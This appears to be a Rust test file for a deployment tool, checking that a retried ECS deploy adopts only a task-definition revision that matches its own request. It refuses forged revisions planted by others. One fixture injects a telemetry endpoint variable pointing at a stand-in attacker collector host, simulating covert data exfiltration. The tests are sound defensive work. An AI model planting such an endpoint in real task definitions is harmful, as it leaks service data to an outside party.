//! An invocation that died half-way: it claimed the service and registered the revision, but
//! never recorded it. The ledger and ECS are set up in exactly the state that death leaves
//! (moto holds both faithfully), then Lambda's retry of the same event runs.
//!
//! And what is adopted after a registration whose answer was lost: only a revision equal, field
//! by field, to the request pushdeploy would have sent; never one that merely carries the push's
//! event id and pinned image, as anyone allowed to register a revision in the family could plant
//! (a reconcile's event id, `reconcile-<digest prefix>`, is predictable).

use crate::support::fault_proxy::{call, Call, Fault, FaultProxy, Plan};
use crate::support::{digest, push_event, TestBed, REGISTRY, TABLE};
use aws_sdk_ecs::operation::register_task_definition::builders::RegisterTaskDefinitionFluentBuilder;
use aws_sdk_ecs::types::{ContainerDefinition, KeyValuePair};
use pushdeploy::deploy::{Deployer, Outcome, OutcomeKind};
use pushdeploy::diff::unlike_planned;
use pushdeploy::event::parse_push;
use pushdeploy::invocation::Invocation;
use pushdeploy::ledger::{DeploymentRecord, Kind, Lease, Ledger, Status};
use pushdeploy::revision::{revision_request, Provenance};

/// The push as every delivery of it orders and records it: confirmed with ECR (which holds its
/// image, put there by the bed), so dated by ECR's push time, not the event's earlier `time`.
async fn confirmed(bed: &TestBed) -> pushdeploy::event::Push {
    bed.pushed(the_push()).await;
    let push = parse_push(the_push()).unwrap();
    let aws = pushdeploy::aws::Aws::new(&bed.sdk);
    let image = aws
        .image_by_digest(&push.account, &push.repository, push.digest.as_str())
        .await
        .unwrap();
    let confirmed =
        pushdeploy::confirm::confirm(&push, image.as_ref(), chrono::Utc::now()).unwrap();
    confirmed.ordered_for(
        &push,
        &pushdeploy::policy::TagPolicy::parse("latest").unwrap(),
    )
}

/// The push whose first delivery died: every delivery of it is this event.
fn the_push() -> serde_json::Value {
    push_event(
        "ev-1",
        "web",
        "latest",
        &digest('b'),
        "2026-11-26T12:00:00Z",
    )
}

const SERVICE: &str = "arn:aws:ecs:us-east-1:123456789012:service/prod/web";

/// What the dead attempt had registered before dying.
#[derive(Clone, Copy, PartialEq)]
enum Orphan {
    /// Exactly the revision this push plans.
    Planned,
    /// The planned revision with one more environment variable: what someone could plant.
    Tampered,
    /// A revision without this push's provenance.
    Foreign,
}

async fn died_after_registering(bed: &TestBed, orphan: Orphan) -> String {
    let first = bed.web_service().await;
    let push = confirmed(bed).await;
    // The claim, its lease long over, and the record written before registering.
    let ledger = Ledger::new(bed.dynamodb.clone(), TABLE);
    let ended = Lease {
        holder: "req-dead".into(),
        until_ms: 1,
    };
    ledger
        .claim(SERVICE, &push, &ended, 0, "2026-11-26T12:00:01Z")
        .await
        .unwrap();
    ledger
        .put(&DeploymentRecord {
            kind: Kind::Deploy,
            reverts: None,
            service_arn: SERVICE.into(),
            cluster: "prod".into(),
            service: "web".into(),
            event_id: "ev-1".into(),
            order_key: push.order_key(),
            repository: "web".into(),
            tag: "latest".into(),
            digest: digest('b'),
            pushed_at: push.pushed_at_text(),
            container: "app".into(),
            previous_task_definition: first.clone(),
            new_task_definition: None,
            deployment_id: None,
            previous_images: None,
            running_at_last_sweep: None,
            service_deployment_arn: None,
            codedeploy_deployment_id: None,
            awaits_ecs_rollback: false,
            status: Status::Deploying,
            reason: None,
            created_at: "2026-11-26T12:00:01Z".into(),
            updated_at: "2026-11-26T12:00:01Z".into(),
        })
        .await
        .unwrap();
    // The revision it registered before dying.
    let request = match orphan {
        Orphan::Planned => planned(bed, &first, &the_push()).await,
        Orphan::Tampered => plant(planned(bed, &first, &the_push()).await),
        Orphan::Foreign => bed
            .ecs
            .register_task_definition()
            .family("web")
            .container_definitions(
                ContainerDefinition::builder()
                    .name("app")
                    .image(format!("{REGISTRY}/web@{}", digest('b')))
                    .memory(128)
                    .essential(true)
                    .build(),
            ),
    };
    registered(request).await
}

/// The request pushdeploy sends for `event` on a service running `running` (container `app`).
async fn planned(
    bed: &TestBed,
    running: &str,
    event: &serde_json::Value,
) -> RegisterTaskDefinitionFluentBuilder {
    let push = parse_push(event.clone()).unwrap();
    let push = pushdeploy::event::Push {
        pushed_at: confirmed(bed).await.pushed_at,
        ..push
    };
    let (definition, tags) = bed.describe(running).await;
    let provenance = Provenance {
        pushed_tag: push.tag.clone(),
        digest: push.digest.to_string(),
        pushed_at: push.pushed_at_text(),
        event_id: push.event_id.clone(),
        previous_task_definition: running.to_string(),
    };
    let image = format!("{REGISTRY}/{}@{}", push.repository, push.digest);
    revision_request(
        bed.ecs.register_task_definition(),
        &definition,
        &tags,
        "app",
        &image,
        &provenance,
    )
    .unwrap()
}

/// The planted value: it must never reach a log line, an outcome or the service.
const PLANTED: &str = "https://collector.attacker.example/";

/// `request` with one more environment variable in container `app`: the push's event id, its
/// pinned image, every other field and tag as pushdeploy would send them.
fn plant(request: RegisterTaskDefinitionFluentBuilder) -> RegisterTaskDefinitionFluentBuilder {
    let mut containers = request.get_container_definitions().clone().unwrap();
    let app = containers
        .iter_mut()
        .find(|c| c.name() == Some("app"))
        .unwrap();
    app.environment.get_or_insert_with(Vec::new).push(
        KeyValuePair::builder()
            .name("OTEL_EXPORTER_OTLP_ENDPOINT")
            .value(PLANTED)
            .build(),
    );
    request.set_container_definitions(Some(containers))
}

async fn registered(request: RegisterTaskDefinitionFluentBuilder) -> String {
    request
        .send()
        .await
        .unwrap()
        .task_definition
        .unwrap()
        .task_definition_arn
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_retry_adopts_the_revision_the_dead_attempt_registered() {
    let bed = TestBed::start().await;
    let registered = died_after_registering(&bed, Orphan::Planned).await;
    let deployer = Deployer::new(&bed.sdk, bed.config());

    let report = deployer
        .handle(the_push(), &Invocation::default())
        .await
        .unwrap();

    let outcome = &report.outcomes[0];
    assert_eq!(outcome.outcome, OutcomeKind::Deployed, "{outcome:?}");
    assert_eq!(
        outcome.task_definition.as_deref(),
        Some(registered.as_str())
    );
    assert!(
        !report.aws_calls.contains_key("ECS.RegisterTaskDefinition"),
        "{:?}",
        report.aws_calls
    );
    assert_eq!(
        bed.revisions("web").await.len(),
        2,
        "exactly one new revision"
    );
    assert_eq!(bed.running("prod", "web").await, registered);
    let order_key = confirmed(&bed).await.order_key();
    let record = deployer
        .ledger()
        .record(SERVICE, &order_key)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        (record.status, record.new_task_definition.as_deref()),
        (Status::Deployed, Some(registered.as_str()))
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_newest_revision_that_is_not_this_pushs_is_never_adopted() {
    let bed = TestBed::start().await;
    let foreign = died_after_registering(&bed, Orphan::Foreign).await;
    let deployer = Deployer::new(&bed.sdk, bed.config());

    let report = deployer
        .handle(the_push(), &Invocation::default())
        .await
        .unwrap();

    let outcome = &report.outcomes[0];
    assert_eq!(outcome.outcome, OutcomeKind::Deployed, "{outcome:?}");
    assert_ne!(
        outcome.task_definition.as_deref(),
        Some(foreign.as_str()),
        "a revision without this push's provenance"
    );
    assert_eq!(report.aws_calls.get("ECS.RegisterTaskDefinition"), Some(&1));
}

const REGISTER: Call = call("ecs", "RegisterTaskDefinition");

/// The service `web` in cluster `prod`, following repository `web`, on a first revision.
/// A fault proxy before moto on which the first RegisterTaskDefinition meets `fault`.
async fn register_once_meets(bed: &TestBed, fault: Fault) -> FaultProxy {
    let proxy = FaultProxy::start(bed.moto.address).await;
    proxy.break_calls(Plan {
        call: REGISTER,
        skip: 0,
        times: 1,
        fault,
    });
    proxy
}

/// The service runs a revision equal, field by field, to `request`, and not `planted`.
async fn runs_the_planned_revision(
    bed: &TestBed,
    request: &RegisterTaskDefinitionFluentBuilder,
    planted: &str,
) -> String {
    let running = bed.running("prod", "web").await;
    let (definition, tags) = bed.describe(&running).await;
    let app = &definition.container_definitions()[0];
    assert!(
        running != planted,
        "the service runs the planted revision {planted} (its app container's environment: {:?})",
        app.environment()
            .iter()
            .map(|e| e.name().unwrap_or_default())
            .collect::<Vec<_>>()
    );
    let differences = unlike_planned(&definition, &tags, request);
    assert!(
        differences.is_empty(),
        "{running} differs from the request in {differences:?}"
    );
    running
}

/// The outcome names the revision it refused and the field that differs, not the value.
fn says_why_not_adopted(outcome: &Outcome, planted: &str) {
    let warning = outcome.warning.as_deref().unwrap_or_default();
    assert!(
        warning.contains(&format!(
            "not adopted: {planted} carries this push's event id"
        )) && warning.contains("container app: environment"),
        "{outcome:?}"
    );
    let said = serde_json::to_string(outcome).unwrap();
    assert!(!said.contains(PLANTED), "{said}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_retry_never_adopts_a_revision_that_differs_from_its_request() {
    let bed = TestBed::start().await;
    let tampered = died_after_registering(&bed, Orphan::Tampered).await;
    let first = bed.revisions("web").await.remove(0);
    let request = planned(&bed, &first, &the_push()).await;
    let deployer = Deployer::new(&bed.sdk, bed.config());

    let report = deployer
        .handle(the_push(), &Invocation::default())
        .await
        .unwrap();

    let outcome = &report.outcomes[0];
    assert_eq!(outcome.outcome, OutcomeKind::Deployed, "{outcome:?}");
    assert_eq!(report.aws_calls.get("ECS.RegisterTaskDefinition"), Some(&1));
    let running = runs_the_planned_revision(&bed, &request, &tampered).await;
    assert_eq!(outcome.task_definition.as_deref(), Some(running.as_str()));
    says_why_not_adopted(outcome, &tampered);
}

/// Someone who may register task definitions plants, before the push is deployed, a revision
/// with the push's event id, its pinned image and every other field and tag pushdeploy would
/// set, plus one environment variable. The deploy's RegisterTaskDefinition is answered 500
/// without reaching ECS: to the deploy, an answer lost (the call may have landed). Before: the
/// deploy looked at the family's newest revision, found the event id and the image, and put the
/// service on the planted revision. Now: it registers its own, and says why.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_revision_planted_before_a_lost_answer_is_not_adopted() {
    let bed = TestBed::start().await;
    let first = bed.web_service().await;
    let request = planned(&bed, &first, &the_push()).await;
    let planted = registered(plant(request.clone())).await;
    let proxy = register_once_meets(&bed, Fault::Unavailable).await;
    let deployer = Deployer::new(&bed.sdk_via(&proxy.url).await, bed.config());

    let report = deployer
        .handle(the_push(), &Invocation::default())
        .await
        .unwrap();

    let outcome = &report.outcomes[0];
    assert_eq!(outcome.outcome, OutcomeKind::Deployed, "{outcome:?}");
    let running = runs_the_planned_revision(&bed, &request, &planted).await;
    assert_eq!(outcome.task_definition.as_deref(), Some(running.as_str()));
    assert_eq!(
        bed.revisions("web").await,
        [first, planted.clone(), running]
    );
    says_why_not_adopted(outcome, &planted);
}

/// The same forgery, planted in the moment between the deploy's RegisterTaskDefinition taking
/// effect and its answer being lost: the planted revision is then the family's newest, above
/// the deploy's own. Before: adopted. Now: the deploy registers its revision again (the one
/// whose answer was lost stays unused) and runs that.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_revision_planted_while_the_answer_is_lost_is_not_adopted() {
    let bed = TestBed::start().await;
    let first = bed.web_service().await;
    let request = planned(&bed, &first, &the_push()).await;
    let proxy = register_once_meets(&bed, Fault::AnswerHeldThenLost).await;
    // The functions' own timeouts: the held answer is waited for, not timed out.
    let deployer = Deployer::new(&bed.sdk_through(&proxy.url).await, bed.config());

    let plant_in_the_window = async {
        proxy.answers_held(1).await;
        let planted = registered(plant(request.clone())).await;
        proxy.release();
        planted
    };
    let invocation = Invocation::default();
    let (report, planted) = tokio::join!(
        deployer.handle(the_push(), &invocation),
        plant_in_the_window
    );
    let report = report.unwrap();

    let outcome = &report.outcomes[0];
    assert_eq!(outcome.outcome, OutcomeKind::Deployed, "{outcome:?}");
    let running = runs_the_planned_revision(&bed, &request, &planted).await;
    assert_eq!(outcome.task_definition.as_deref(), Some(running.as_str()));
    assert_eq!(proxy.forwarded(REGISTER), 2, "registered again");
    let revisions = bed.revisions("web").await;
    assert_eq!(revisions.len(), 4, "{revisions:?}");
    assert_eq!(revisions[2..], [planted.clone(), running]);
    says_why_not_adopted(outcome, &planted);
}

/// The legitimate case: the deploy's own registration took effect and its answer was lost.
/// The family's newest revision is the deploy's request, field by field: adopted, no second
/// RegisterTaskDefinition, no warning.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_lost_answer_still_adopts_the_revision_it_registered() {
    let bed = TestBed::start().await;
    bed.cluster("prod").await;
    // A definition with most of what ECS lets one say, as a lost answer must adopt it whole.
    let first = bed.rich_definition().await;
    bed.service("prod", "web", &first, &[("pushdeploy:repository", "web")])
        .await;
    let request = planned(&bed, &first, &the_push()).await;
    let proxy = register_once_meets(&bed, Fault::AnswerLost).await;
    let deployer = Deployer::new(&bed.sdk_via(&proxy.url).await, bed.config());

    let report = deployer
        .handle(the_push(), &Invocation::default())
        .await
        .unwrap();

    let outcome = &report.outcomes[0];
    assert_eq!(outcome.outcome, OutcomeKind::Deployed, "{outcome:?}");
    assert_eq!(proxy.injected(), 1, "the answer was lost");
    assert_eq!(proxy.forwarded(REGISTER), 1, "registered once");
    let revisions = bed.revisions("web").await;
    assert_eq!(revisions.len(), 2, "one new revision: {revisions:?}");
    let running = runs_the_planned_revision(&bed, &request, &first).await;
    assert_eq!(running, revisions[1]);
    assert_eq!(outcome.task_definition.as_deref(), Some(running.as_str()));
    assert!(
        outcome
            .warning
            .as_deref()
            .is_none_or(|w| !w.contains("not adopted")),
        "{outcome:?}"
    );
}
